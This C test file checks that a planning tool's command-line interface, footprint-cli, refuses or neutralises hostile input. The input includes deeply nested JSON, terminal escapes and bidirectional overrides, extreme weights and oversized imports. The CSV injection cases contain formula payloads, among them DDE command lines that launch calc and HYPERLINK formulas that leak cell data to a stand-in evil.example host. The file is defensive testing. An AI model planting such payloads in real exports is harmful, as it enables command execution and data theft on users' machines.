/* test-hostile-cli.c: hostile input through footprint-cli, end to end, on the BSol document.
 *
 * A deeply nested scenario file, a document whose stored change was made deep, names with
 * terminal escapes and bidirectional overrides, weights beyond use, more changes than a
 * scenario holds, and formula payloads in scenario names and site names and ids that must
 * come out of every CSV neutralised (read back by Python's csv module). Every refusal is a
 * clear message and an ordinary exit; fp_test_run_cli() fails the test if the CLI dies.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <sqlite3.h>
#include <string.h>
#include <json-glib/json-glib.h>
#include <glib/gstdio.h>

#include "fp-test-util.h"

#define CLI(run, ...) fp_test_run_cli ((run), data_home, (const char *[]) { __VA_ARGS__, NULL })

static char *data_home;
static char *doc;
static char *nhs_site;      /* a placed, current NHS site of the BSol estate */
static char *other_site;    /* another */
static char *centres[2];    /* two placed, current NHS health centres (they may host clinics) */

static void
must_succeed (const FpTestRun *run)
{
  if (run->status != 0)
    g_error ("footprint-cli failed (%d): %s%s", run->status, run->out, run->err);
}

static void
must_refuse (const FpTestRun *run,
             int              status,
             const char      *expect)
{
  g_test_message ("refused (%d): %s", run->status, run->err);
  g_assert_cmpint (run->status, ==, status);
  if (strstr (run->err, expect) == NULL)
    g_error ("expected a message with “%s”, got: %s", expect, run->err);
}

static char *
list_scenarios (const char *document)
{
  g_auto(FpTestRun) run = { 0 };

  CLI (&run, "scenario", "list", "--document", document, "--json");
  must_succeed (&run);
  return g_steal_pointer (&run.out);
}

static char *
write_temp (const char *name,
            const char *contents,
            gssize      size)
{
  char *path = fp_test_tmpfile (name);

  g_assert_true (g_file_set_contents (path, contents, size, NULL));
  return path;
}

/* 80 KB of “[” made json-glib overflow its stack: now refused, nothing imported. */
static void
test_import_deep (void)
{
  g_autofree char *brackets = g_strnfill (80000, '[');
  g_autofree char *file = write_temp ("deep.json", brackets, -1);
  g_autofree char *before = list_scenarios (doc);
  g_autofree char *after = NULL;
  g_auto(FpTestRun) run = { 0 };

  CLI (&run, "scenario", "import", "--document", doc, file);
  must_refuse (&run, 1, "deeper than 32 levels");
  g_assert_nonnull (strstr (run.err, "nothing was imported"));
  after = list_scenarios (doc);
  g_assert_cmpstr (before, ==, after);
}

/* A document whose stored change was made 80,000 deep behind its CHECK constraint's back
 * crashed summary, list and compute; now each says which change and exits. */
static void
test_stored_deep (void)
{
  g_autofree char *deep_doc = fp_test_tmpfile ("stored-deep.footprint");
  g_autofree char *brackets = g_strnfill (80000, '[');
  g_autofree char *closing = g_strnfill (80000, ']');
  g_autofree char *params = g_strconcat ("{\"site\": ", brackets, closing, "}", NULL);
  const char *commands[][6] = {
    { "summary", "--document", deep_doc, NULL },
    { "scenario", "list", "--document", deep_doc, NULL },
    { "compute", "--document", deep_doc, "--scenario", "Deep", NULL },
  };
  sqlite3 *db = NULL;
  sqlite3_stmt *stmt = NULL;

  {
    g_auto(FpTestRun) init = { 0 };
    g_auto(FpTestRun) create = { 0 };
    g_auto(FpTestRun) add = { 0 };

    CLI (&init, "init", "--document", deep_doc);
    must_succeed (&init);
    CLI (&create, "scenario", "create", "--document", deep_doc, "--scenario", "Deep");
    must_succeed (&create);
    CLI (&add, "scenario", "add-change", "--document", deep_doc, "--scenario", "Deep", "--kind",
         "change_hours", "--year", "2027", "--site", nhs_site, "--hours", "50");
    must_succeed (&add);
  }

  g_assert_cmpint (sqlite3_open (deep_doc, &db), ==, SQLITE_OK);
  g_assert_cmpint (sqlite3_exec (db, "PRAGMA ignore_check_constraints = ON", NULL, NULL, NULL),
                   ==, SQLITE_OK);
  g_assert_cmpint (sqlite3_prepare_v2 (db, "UPDATE changes SET params = ?", -1, &stmt, NULL),
                   ==, SQLITE_OK);
  sqlite3_bind_text (stmt, 1, params, -1, SQLITE_STATIC);
  g_assert_cmpint (sqlite3_step (stmt), ==, SQLITE_DONE);
  sqlite3_finalize (stmt);
  g_assert_cmpint (sqlite3_close (db), ==, SQLITE_OK);

  for (guint i = 0; i < G_N_ELEMENTS (commands); i++)
    {
      g_auto(FpTestRun) run = { 0 };

      fp_test_run_cli (&run, data_home, commands[i]);
      must_refuse (&run, 1, "change 1 nests lists and objects deeper than 32 levels");
    }
}

/* ---- CSV injection, end to end --------------------------------------------------------- */

static void
check_csv (const char         *label,
           const char         *csv,
           const char * const *expect)
{
  g_autofree char *path = write_temp ("cli.csv", csv, -1);
  g_autofree char *script = g_test_build_filename (G_TEST_DIST, "check-csv-cells.py", NULL);
  g_autoptr(GPtrArray) argv = g_ptr_array_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  int status = 0;

  g_ptr_array_add (argv, "python3");
  g_ptr_array_add (argv, script);
  g_ptr_array_add (argv, path);
  for (guint i = 0; expect != NULL && expect[i] != NULL; i++)
    g_ptr_array_add (argv, (gpointer) expect[i]);
  g_ptr_array_add (argv, NULL);

  g_spawn_sync (NULL, (char **) argv->pdata, NULL, G_SPAWN_SEARCH_PATH, NULL, NULL, &out, &err,
                &status, &error);
  g_assert_no_error (error);
  g_test_message ("%s: %s%s", label, out, err);
  if (!g_spawn_check_wait_status (status, NULL))
    g_error ("%s: a CSV cell would be read as a formula:\n%s%s", label, out, err);
}

/* Scenario names, a new site's name and its id, each a formula payload. */
static void
test_csv_injection (void)
{
  const struct { const char *scenario, *name, *id; } cases[] = {
    { "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
      "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0" },
    { "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0" },
    { "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example\")" },
    { "-2+3+cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Open\")",
      "@SUM(A1:A9)" },
    { "@SUM(1+1)*cmd|' /C calc'!A0", "+44 121 000 0000", "=1+1,\"quoted\"" },
  };
  guint n_csv = 0;

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_auto(FpTestRun) create = { 0 };
      g_auto(FpTestRun) open = { 0 };
      g_auto(FpTestRun) move = { 0 };
      g_auto(FpTestRun) compute = { 0 };
      g_auto(FpTestRun) access = { 0 };
      g_auto(FpTestRun) zones = { 0 };
      const char *in_compute[] = { cases[i].scenario, cases[i].name, cases[i].id, NULL };
      const char *in_access[] = { cases[i].scenario, NULL };
      const char *in_zones[] = { cases[i].scenario, cases[i].id, NULL };

      CLI (&create, "scenario", "create", "--document", doc, "--scenario", cases[i].scenario);
      must_succeed (&create);
      CLI (&open, "scenario", "add-change", "--document", doc, "--scenario", cases[i].scenario,
           "--kind", "open_site", "--year", "2026", "--id", cases[i].id, "--name", cases[i].name,
           "--site-type", "hub", "--lat", "52.48", "--lon", "-1.89", "--gia-m2", "2400",
           "--rooms", "consult=18", "--hours", "60", "--capital-cost", "9000000",
           "--running-cost", "600000", "--tenure", "leasehold");
      must_succeed (&open);
      /* GP appointments at the new site, so it is some zones' nearest. */
      CLI (&move, "scenario", "add-change", "--document", doc, "--scenario", cases[i].scenario,
           "--kind", "move_service", "--year", "2026", "--site", nhs_site, "--service",
           "gp_appointments", "--to-site", cases[i].id, "--share", "0.5");
      must_succeed (&move);

      CLI (&compute, "compute", "--document", doc, "--scenario", cases[i].scenario, "--year",
           "2026", "--format", "csv");
      must_succeed (&compute);
      check_csv ("compute", compute.out, in_compute);
      CLI (&access, "access", "--document", doc, "--scenario", cases[i].scenario, "--year",
           "2026", "--format", "csv");
      must_succeed (&access);
      check_csv ("access", access.out, in_access);
      CLI (&zones, "access", "--document", doc, "--scenario", cases[i].scenario, "--year",
           "2026", "--service", "gp_appointments", "--zones", "--format", "csv");
      must_succeed (&zones);
      check_csv ("access by zone", zones.out, in_zones);
      n_csv += 3;
    }

  {
    g_auto(FpTestRun) sites = { 0 };

    CLI (&sites, "sites", "--document", doc, "--format", "csv");
    must_succeed (&sites);
    check_csv ("sites", sites.out, NULL);
    n_csv++;
  }

  g_test_message ("formula payloads: %u scenarios, %u payloads, %u CSV outputs checked",
                  (guint) G_N_ELEMENTS (cases), (guint) G_N_ELEMENTS (cases) * 3, n_csv);
}

/* ---- Names and notes ------------------------------------------------------------------- */

static void
test_text_options (void)
{
  const struct { const char *scenario; const char *expect; } bad_names[] = {
    { "Do nothing ", "empty scenario" },
    { "\u00a0do nothing", "empty scenario" },
    { "\x1b[31mRed\x1b[0m", "control character" },
    { "Hubs\xe2\x80\xae", "bidirectional" },
    { "Tab\there", "control character" },
    { "Cr\rhere", "control character" },
    { "   ", "is empty" },
  };
  const struct { const char *option; const char *value; const char *expect; } bad_fields[] = {
    { "--owner", "\x1b[2J\x1b[HEstates", "control character" },
    { "--note", "fine\x1b]0;title\x07", "control character" },
    { "--owner", "\xe2\x81\xa6" "Estates\xe2\x81\xa9", "bidirectional" },
    { "--site", "   ", "“site” is empty" },
  };
  g_autofree char *before = list_scenarios (doc);
  g_autofree char *after = NULL;

  for (guint i = 0; i < G_N_ELEMENTS (bad_names); i++)
    {
      g_auto(FpTestRun) run = { 0 };

      CLI (&run, "scenario", "create", "--document", doc, "--scenario", bad_names[i].scenario);
      must_refuse (&run, 1, bad_names[i].expect);
    }
  after = list_scenarios (doc);
  g_assert_cmpstr (before, ==, after);

  {
    g_auto(FpTestRun) padded = { 0 };
    g_auto(FpTestRun) again = { 0 };

    CLI (&padded, "scenario", "create", "--document", doc, "--scenario", "  Padded  ",
         "--description", "  Described  ");
    must_succeed (&padded);
    g_assert_nonnull (strstr (padded.out, "Created “Padded”"));
    CLI (&again, "scenario", "create", "--document", doc, "--scenario", "Padded ");
    g_assert_cmpint (again.status, ==, 1);
  }

  for (guint i = 0; i < G_N_ELEMENTS (bad_fields); i++)
    {
      g_auto(FpTestRun) run = { 0 };
      const char *site = g_str_equal (bad_fields[i].option, "--site") ? bad_fields[i].value
                                                                       : nhs_site;

      CLI (&run, "scenario", "add-change", "--document", doc, "--scenario", "Padded", "--kind",
           "change_hours", "--year", "2027", "--site", site, "--hours", "50",
           bad_fields[i].option, bad_fields[i].value);
      must_refuse (&run, 2, bad_fields[i].expect);
    }
}

/* Weights of 1e17 were stored as “1e+17.0”, which no reader (the document's own included)
 * reads back: every later command on the document failed. */
static void
test_weights (void)
{
  /* Outpatient follow-ups may go to health centres, not to GP practices (fp-hosting.c). */
  g_autofree char *to_sites = g_strconcat (centres[0], ",", centres[1], NULL);
  g_auto(FpTestRun) create = { 0 };
  g_auto(FpTestRun) add = { 0 };
  g_auto(FpTestRun) fine = { 0 };
  g_autofree char *list = NULL;

  CLI (&create, "scenario", "create", "--document", doc, "--scenario", "Weights");
  must_succeed (&create);
  CLI (&add, "scenario", "add-change", "--document", doc, "--scenario", "Weights", "--kind",
       "shift_setting", "--year", "2027", "--service", "outpatient_followup", "--from-setting",
       "acute", "--share", "0.1", "--to-sites", to_sites, "--weights", "1e17,1");
  must_refuse (&add, 2, "1e+17");
  CLI (&fine, "scenario", "add-change", "--document", doc, "--scenario", "Weights", "--kind",
       "shift_setting", "--year", "2027", "--service", "outpatient_followup", "--from-setting",
       "acute", "--share", "0.1", "--to-sites", to_sites, "--weights", "1e8,1");
  must_succeed (&fine);
  list = list_scenarios (doc);
  g_assert_nonnull (strstr (list, "Weights"));
}

/* ---- Limits ----------------------------------------------------------------------------- */

static char *
many_changes (const char *name,
              guint       n)
{
  GString *s = g_string_new (NULL);

  g_string_append_printf (s, "{\"name\": \"%s\", \"changes\": [", name);
  for (guint i = 0; i < n; i++)
    g_string_append_printf (s, "%s{\"kind\": \"change_hours\", \"year\": %u, \"site\": \"%s\", "
                               "\"hours_open_per_week\": %u}", i ? ", " : "", 2026 + i % 5,
                            nhs_site, 40 + i % 50);
  g_string_append (s, "]}");
  return g_string_free (s, FALSE);
}

static void
test_limits (void)
{
  g_autofree char *full = many_changes ("Full", 1000);
  g_autofree char *over = many_changes ("Over", 1001);
  g_autofree char *full_file = write_temp ("full.json", full, -1);
  g_autofree char *over_file = write_temp ("over.json", over, -1);
  g_autofree char *padding = g_strnfill (1024 * 1024, ' ');
  g_autofree char *big = g_strconcat (padding, "{\"name\": \"Big\", \"changes\": []}", NULL);
  g_autofree char *big_file = write_temp ("big.json", big, -1);
  g_auto(FpTestRun) import_full = { 0 };
  g_auto(FpTestRun) import_over = { 0 };
  g_auto(FpTestRun) import_big = { 0 };
  g_auto(FpTestRun) add = { 0 };

  CLI (&import_full, "scenario", "import", "--document", doc, full_file);
  must_succeed (&import_full);
  CLI (&add, "scenario", "add-change", "--document", doc, "--scenario", "Full", "--kind",
       "change_hours", "--year", "2027", "--site", nhs_site, "--hours", "50");
  must_refuse (&add, 1, "1000 changes, the most a scenario holds");
  CLI (&import_over, "scenario", "import", "--document", doc, over_file);
  must_refuse (&import_over, 1, "at most 1000 changes");
  CLI (&import_big, "scenario", "import", "--document", doc, big_file);
  must_refuse (&import_big, 1, "Footprint reads");
}

int
main (int    argc,
      char **argv)
{
  g_autofree char *dir = NULL;
  g_auto(FpTestRun) init = { 0 };
  g_auto(FpTestRun) sites = { 0 };
  g_autoptr(JsonNode) root = NULL;
  g_autoptr(GError) error = NULL;
  JsonArray *list;
  int ret;

  g_test_init (&argc, &argv, NULL);

  dir = fp_test_tmpdir ();
  data_home = g_build_filename (dir, "xdg-data", NULL);
  doc = fp_test_tmpfile ("hostile.footprint");

  CLI (&init, "init", "--document", doc);
  must_succeed (&init);
  CLI (&sites, "sites", "--document", doc, "--format", "json");
  must_succeed (&sites);
  root = json_from_string (sites.out, &error);
  g_assert_no_error (error);
  list = json_object_get_array_member (json_node_get_object (root), "sites");
  for (guint i = 0; i < json_array_get_length (list); i++)
    {
      JsonObject *s = json_array_get_object_element (list, i);
      const char *type = json_object_get_string_member (s, "site_type");
      const char *id = json_object_get_string_member (s, "id");

      if (json_object_get_null_member (s, "lat") ||
          g_strcmp0 (json_object_get_string_member (s, "status"), "current") != 0 ||
          g_strcmp0 (json_object_get_string_member (s, "sector"), "nhs") != 0)
        continue;
      if (g_str_equal (type, "gp_practice") && nhs_site == NULL)
        nhs_site = g_strdup (id);
      else if (g_str_equal (type, "gp_practice") && other_site == NULL)
        other_site = g_strdup (id);
      else if (g_str_equal (type, "health_centre") && centres[0] == NULL)
        centres[0] = g_strdup (id);
      else if (g_str_equal (type, "health_centre") && centres[1] == NULL)
        centres[1] = g_strdup (id);
    }
  g_assert_nonnull (other_site);
  g_assert_nonnull (centres[1]);

  g_test_add_func ("/fp/hostile-cli/import-deep", test_import_deep);
  g_test_add_func ("/fp/hostile-cli/stored-deep", test_stored_deep);
  g_test_add_func ("/fp/hostile-cli/csv-injection", test_csv_injection);
  g_test_add_func ("/fp/hostile-cli/text-options", test_text_options);
  g_test_add_func ("/fp/hostile-cli/weights", test_weights);
  g_test_add_func ("/fp/hostile-cli/limits", test_limits);

  ret = g_test_run ();

  g_free (nhs_site);
  g_free (other_site);
  g_free (centres[0]);
  g_free (centres[1]);
  g_free (doc);
  g_free (data_home);
  return ret;
}
